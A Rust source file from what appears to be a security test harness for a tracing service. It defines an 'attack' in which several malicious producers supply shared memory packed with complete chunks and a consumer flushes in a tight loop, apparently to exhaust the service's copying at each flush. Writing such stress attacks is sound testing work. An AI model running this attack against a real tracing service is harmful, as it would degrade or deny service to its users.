//! Memories full of complete chunks, as small as possible, which the service copies at each flush.

use std::os::fd::{AsFd as _, OwnedFd};

use ferretto_ipc::port::consumer;
use ferretto_ipc::port::producer::{Port, Request};
use ferretto_proto::initialize_connection_request::ProducerSMBScrapingMode;
use ferretto_proto::{FlushRequest, InitializeConnectionRequest, RegisterTraceWriterRequest};
use rustix::fs::{MemfdFlags, SealFlags, fcntl_add_seals, ftruncate};

use crate::common::{Client, enable};
use crate::frame::{Attack, Target};
use crate::honest::DATA_SOURCE;

pub(crate) const ATTACK: Attack = Attack::by_nobody(run);

const PRODUCERS: usize = 7;
const SIZE: usize = 32 << 20;
const PAGE: usize = 4096;
/// The number of chunks of a page.
const CHUNKS: usize = 14;
/// The size of such a chunk.
const CHUNK: usize = 288;

fn run(target: &Target) {
    let memory = memory();
    let producers: Vec<_> = (0..PRODUCERS)
        .filter_map(|_| Some(connect(Client::bind(target.producer_socket()?), &memory)))
        .collect();
    assert!(!producers.is_empty());
    let mut consumer = Client::<consumer::Port>::bind(target.consumer_socket().unwrap());
    consumer
        .0
        .invoke(&enable(DATA_SOURCE, |_| {}), None, true)
        .unwrap();
    loop {
        let flush = consumer::Request::Flush(FlushRequest {
            timeout_ms: Some(1),
            ..Default::default()
        });
        consumer.0.invoke(&flush, None, true).unwrap();
        consumer.reply();
        if !target.goes_on() {
            return;
        }
    }
}

/// Returns memory whose pages all have 14 complete chunks.
fn memory() -> OwnedFd {
    let flags = MemfdFlags::CLOEXEC | MemfdFlags::ALLOW_SEALING;
    let memory = rustix::fs::memfd_create("filled", flags).unwrap();
    ftruncate(&memory, SIZE as u64).unwrap();
    let seals = SealFlags::SHRINK | SealFlags::GROW | SealFlags::SEAL;
    fcntl_add_seals(&memory, seals).unwrap();
    let mut all = vec![0_u8; SIZE];
    for (number, page) in all.chunks_mut(PAGE).enumerate() {
        let complete = (0..CHUNKS).fold(0_u32, |word, chunk| word | 3 << (2 * chunk));
        page[..4].copy_from_slice(&(LAYOUT_14 << 28 | complete).to_le_bytes());
        for chunk in 0..CHUNKS {
            let at = 8 + chunk * CHUNK;
            let id = (number * CHUNKS + chunk) as u32;
            page[at..at + 4].copy_from_slice(&id.to_le_bytes());
            // Writers 1 to 8, one for each buffer; one fragment.
            page[at + 4..at + 8].copy_from_slice(&[1 + (id % 8) as u8, 0, 1, 0]);
        }
    }
    rustix::io::pwrite(&memory, &all, 0).unwrap();
    memory
}

/// The number of the layout with 14 chunks.
const LAYOUT_14: u32 = 5;

/// A producer that may write into the honest session.
fn connect(mut producer: Client<Port>, memory: &OwnedFd) -> Client<Port> {
    let request = Request::InitializeConnection(InitializeConnectionRequest {
        producer_name: Some(b"filled".to_vec()),
        shared_memory_page_size_hint_bytes: Some(PAGE as u32),
        producer_provided_shmem: Some(true),
        smb_scraping_mode: Some(ProducerSMBScrapingMode::SMB_SCRAPING_ENABLED),
        ..Default::default()
    });
    let fd = memory.as_fd().try_clone_to_owned().unwrap();
    producer.0.invoke(&request, Some(fd), true).unwrap();
    producer.reply();
    producer.register(DATA_SOURCE);
    for buffer in 1..=8 {
        let request = Request::RegisterTraceWriter(RegisterTraceWriterRequest {
            trace_writer_id: Some(buffer),
            target_buffer: Some(buffer),
            ..Default::default()
        });
        producer.call(&request);
    }
    producer
}
